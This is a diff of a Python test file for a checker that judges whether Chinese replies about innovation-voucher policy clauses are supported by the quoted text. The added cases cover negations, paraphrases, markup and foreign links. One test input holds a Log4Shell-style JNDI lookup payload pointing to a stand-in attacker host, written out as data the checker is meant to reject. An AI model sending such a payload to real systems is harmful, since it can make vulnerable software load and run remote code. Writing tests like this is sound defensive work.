@@ -10,9 +10,11 @@ from agent.model.marks import tidied
 from agent.model.premise import believed
 from agent.model.reply import plain
 from agent.model.said import unsaid
-from agent.model.support import unsupported
+from agent.model.support import Support, unsupported
 
 CLAUSE = "创新券支付额不超过同一合同实际金额的50%，不得转让、赠送，用券主体同期享受创新券补贴的项目不超过2项。"
+AGAIN = "用券主体同期享受创新券补贴的项目不超过2项，已获得过市级财政资金支持的项目不再重复支持。"
+LISTED = "有下列情形之一的，不予支持：（一）已获得市级资金的；（二）在惩戒期内的。"
 QUARTER = "开放单位应在合同到期后1个月内提交兑现材料，逾期自动作废。"
 
 
@@ -25,10 +27,13 @@ QUARTER = "开放单位应在合同到期后1个月内提交兑现材料，逾�
         ("创新券不能转让，也不能赠送。", CLAUSE),
         ("不可以。", CLAUSE),
         ("合同到期后1个月内要交兑现材料，逾期就作废了。", QUARTER),
+        ("已获得过市级财政资金支持的项目，不再重复支持。", AGAIN),
+        ("创新券支付比例最高为50%，不能超过同一合同实际金额的一半。", CLAUSE),
+        ("不对，创新券最多抵合同实际金额的50%。", CLAUSE),
     ],
 )
 def test_a_fair_paraphrase_stands(sentence: str, quote: str) -> None:
-    assert unsupported(sentence, [quote], [quote]) is None
+    assert unsupported(sentence, Support([quote])) is None
 
 
 @pytest.mark.parametrize(
@@ -40,11 +45,43 @@ def test_a_fair_paraphrase_stands(sentence: str, quote: str) -> None:
         ("按照第三十九条，支付额不超过50%。", "clause_number"),
         ("祝您工作顺利，欢迎关注我们的公众账号。", "unsupported"),
         ("外省企业同样享受北京户口指标与住房优惠。", "unsupported"),
+        ("政府倒贴您50%。", "unsupported"),
+        ("支付额不超过50%，审核通过。", "unsupported"),
+        ("创新券支付额是合同金额的三倍。", "unproved"),
+        ("创新券支付额超过同一合同实际金额的50%。", "negation"),
+        ("创新券支付额至少为合同实际金额的50%。", "negation"),
+        ("<b>最多50%</b>。", "markup"),
+        ("支付额见${jndi:ldap://evil.example/a}。", "markup"),
+        ("支付额不超过50%，见http://evil.example/a。", "foreign"),
+        ("支付额不超过50%，见//evil.example/a。", "foreign"),
     ],
 )
 def test_what_the_clause_does_not_say_falls(sentence: str, code: str) -> None:
-    objection = unsupported(sentence, [CLAUSE], [CLAUSE])
+    objection = unsupported(sentence, Support([CLAUSE]))
     assert objection is not None and objection.code == code
+
+
+@pytest.mark.parametrize(
+    ("sentence", "quote"),
+    [
+        ("合同到期后1个月内不用提交兑现材料。", QUARTER),
+        ("无需提交兑现材料。", QUARTER),
+        ("逾期不会自动作废。", QUARTER),
+        ("逾期未作废。", QUARTER),
+        ("已获得过市级财政资金支持的项目再重复支持。", AGAIN),
+        ("已获得过市级财政资金支持的项目，可以再重复支持。", AGAIN),
+        ("已获得市级资金的，可以申请。", LISTED),
+    ],
+)
+def test_a_no_dropped_or_added_falls(sentence: str, quote: str) -> None:
+    objection = unsupported(sentence, Support([quote]))
+    assert objection is not None and objection.code == "negation"
+
+
+def test_what_the_asker_says_supports_a_figure_of_theirs_and_no_statement() -> None:
+    said = ["合同80万元，听说政府倒贴"]
+    assert unsupported("合同80万元，创新券支付额不超过50%。", Support([CLAUSE], said=said)) is None
+    assert unsupported("政府倒贴。", Support([CLAUSE], said=said)) is not None
 
 
 @pytest.mark.parametrize(
